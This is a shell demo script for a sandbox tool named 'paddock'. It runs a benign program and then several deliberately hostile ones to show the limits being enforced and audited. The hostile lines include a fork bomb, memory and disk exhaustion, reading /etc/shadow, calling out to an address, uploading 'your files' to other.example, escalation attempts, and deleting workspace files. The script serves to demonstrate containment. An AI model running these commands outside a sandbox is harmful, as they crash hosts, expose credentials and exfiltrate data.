#!/bin/sh
# What `make run` shows: a program at work inside the default wall, then a few hostile ones being stopped.
build=${1:-build}
paddock=$build/paddock
bold="" dim="" off=""
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then bold=$(printf '\033[1m') dim=$(printf '\033[2m') off=$(printf '\033[0m'); fi

show() { # title, then the command
  title=$1; shift
  printf '\n%s%s%s\n' "$bold" "$title" "$off"
  printf '%s$ paddock' "$dim"
  for word in "$@"; do case $word in *[!A-Za-z0-9_./:=-]*) printf " '%s'" "$word" ;; *) printf ' %s' "$word" ;; esac; done
  printf '%s\n' "$off"
  "$paddock" "$@" 2>&1 | sed 's/^/  /'
}

show "A program at work" run --code 'import os, platform; print("hello from", platform.node(), "as uid", os.getuid(), "with", len(os.listdir("/proc/self/fd")) - 1, "descriptors")'
show "It asks for more memory than it may have" run --memory 64M --code 'x = bytearray(10**9)'
show "It forks without end" run --pids 20 -- bash -c ':(){ :|:& };: 2>/dev/null; sleep 0.3; echo "the shell is still here"'
show "It never ends" run --timeout 1s -- sleep 1000
show "It fills the disk" run --disk 20M -- sh -c 'dd if=/dev/zero of=/tmp/fill bs=1M 2>&1 | grep -o "No space left.*"'
show "It reads what is not its own" run -- sh -c 'cat /etc/shadow; ls /root /home/*; ls /proc | grep -c "^[0-9]" | sed "s/$/ processes in sight, its own/"'
show "It calls home" run --code 'import socket; socket.create_connection(("192.0.2.1", 443), 3)'
show "It may reach one host, and asks for another" run --allow-net example.com --code 'import urllib.request as u, urllib.error
try: u.urlopen("http://other.example/upload", b"your files")
except urllib.error.HTTPError as e: print(e.code, e.read().decode())'
show "It wants to be root" run -- sh -c 'unshare -Ur id; mount -t tmpfs none /tmp; grep -E "^(CapEff|CapBnd|NoNewPrivs|Seccomp):" /proc/self/status'
show "It changes your files: in a copy, and you look first" run --workspace "$(dirname "$0")/../examples:copy" --discard -- sh -c 'echo hacked > hello.py; rm -f *.toml; ls'
show "It prints a secret that it was given" run --secret TOKEN=open-sesame-1 -- sh -c 'echo "$TOKEN"; echo "$TOKEN" | base64'
show "All of this was recorded: what was stopped" audit show --since 1m --kind limit --kind denial
show "And nobody has changed it since" audit verify
printf '\n%sWhat this host can enforce: %s/paddock doctor      Prove it: %s/paddock verify%s\n' "$bold" "$build" "$build" "$off"
